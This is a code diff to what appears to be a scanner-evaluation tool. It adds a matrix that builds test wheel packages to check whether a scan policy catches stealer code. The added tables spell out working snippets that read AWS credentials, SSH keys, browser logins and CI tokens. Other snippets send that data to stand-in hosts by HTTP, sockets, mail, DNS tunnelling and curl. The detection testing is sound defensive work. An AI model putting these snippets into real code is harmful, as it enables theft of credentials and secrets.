@@ -318,6 +318,81 @@ def shapes(policy: ScanPolicy) -> dict[str, int]:
     return held
 
 
+#: What a stealer takes (``--matrix``): an import line and an expression of the loot.
+LOOT = {
+    "environment": ("import os", "dict(os.environ)"),
+    "host facts": ("import getpass, socket", "{'u': getpass.getuser(), 'h': socket.gethostname()}"),
+    "AWS keys": ("import os", "open(os.path.expanduser('~/.aws/credentials')).read()"),
+    "browser logins": (
+        "import os",
+        "open(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',"
+        " 'Default', 'Login Data'), 'rb').read()",
+    ),
+    "SSH key": ("import os", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
+    "a CI token": ("import os", "os.getenv('GITHUB_TOKEN')"),
+}
+_TO = "'https://collect.example.net/u'"
+#: How it sends it (``--matrix``): an import line and code with ``{loot}``.
+SENDERS = {
+    "requests.post": ("import requests", "requests.post(" + _TO + ", data=str({loot}))"),
+    "query string": ("import requests", "requests.get(" + _TO + ", params={{'d': str({loot})}})"),
+    "a session": (
+        "import requests",
+        "s = requests.Session()\ns.post(" + _TO + ", data=str({loot}))",
+    ),
+    "httpx async": (
+        "import asyncio, httpx",
+        "async def _m(x):\n    async with httpx.AsyncClient() as c:\n"
+        "        await c.post(" + _TO + ", data=str(x))\nasyncio.run(_m({loot}))",
+    ),
+    "urlopen": (
+        "import urllib.request",
+        "urllib.request.urlopen(" + _TO + ", str({loot}).encode())",
+    ),
+    "curl_cffi, aliased": (
+        "from curl_cffi import requests as cr",
+        "cr.post(" + _TO + ", data=str({loot}))",
+    ),
+    "a socket": (
+        "import socket",
+        "s = socket.create_connection(('203.0.113.5', 443))\ns.sendall(str({loot}).encode())",
+    ),
+    "mail": (
+        "import smtplib",
+        "m = smtplib.SMTP_SSL('smtp.example.com', 465)\nm.login('a@example.com', 'Qw9x7Lk2Zp')\n"
+        "m.sendmail('a@example.com', 'b@example.com', str({loot}))",
+    ),
+    "DNS": (
+        "import binascii, socket",
+        "socket.gethostbyname(binascii.hexlify(str({loot}).encode()[:30]).decode()"
+        " + '.x.example.com')",
+    ),
+    "curl": ("import subprocess", "subprocess.run(['curl', '-s', '-d', str({loot}), " + _TO + "])"),
+}
+
+
+def matrix(policy: ScanPolicy) -> dict[tuple[str, str, str], bool]:
+    """Whether each loot sent each way is held, as a wheel's import-time code ("import") and
+    in a function of a module the package imports and never calls ("function")."""
+    held = {}
+    for loot, (loot_import, taken) in LOOT.items():
+        for sender, (send_import, send) in SENDERS.items():
+            code = f"{loot_import}\n{send_import}\n" + send.format(loot=taken) + "\n"
+            function = "def run():\n" + _indented(code)
+            for place, files in (
+                ("import", {"quietlib/__init__.py": code}),
+                (
+                    "function",
+                    {"quietlib/__init__.py": "from .c import run\n", "quietlib/c.py": function},
+                ),
+            ):
+                report = scan_archive(
+                    wheel(files, name="quietlib"), "quietlib-1.0-py3-none-any.whl"
+                )
+                held[(loot, sender, place)] = not policy.decide(report).allowed
+    return held
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--misses", action="store_true", help="list the placements not held")
@@ -332,8 +407,20 @@ def main() -> None:
     parser.add_argument(
         "--shapes", action="store_true", help="wrap each probe in shapes import-time code takes"
     )
+    parser.add_argument(
+        "--matrix", action="store_true", help="each kind of loot sent each way (LOOT x SENDERS)"
+    )
     args = parser.parse_args()
     policy = ScanPolicy()
+    if args.matrix:
+        held = matrix(policy)
+        for place in ("import", "function"):
+            count = sum(1 for (_, _, where), ok in held.items() if ok and where == place)
+            print(f"{place}, held {count} of {len(LOOT) * len(SENDERS)}: " + " | ".join(SENDERS))
+            for loot in LOOT:
+                row = " ".join("H" if held[(loot, s, place)] else "." for s in SENDERS)
+                print(f"  {loot}: {row}")
+        return
     if args.shapes:
         unshipped = sum(1 for name in PROBES if name not in SHIPPED)
         for shape, count in shapes(policy).items():
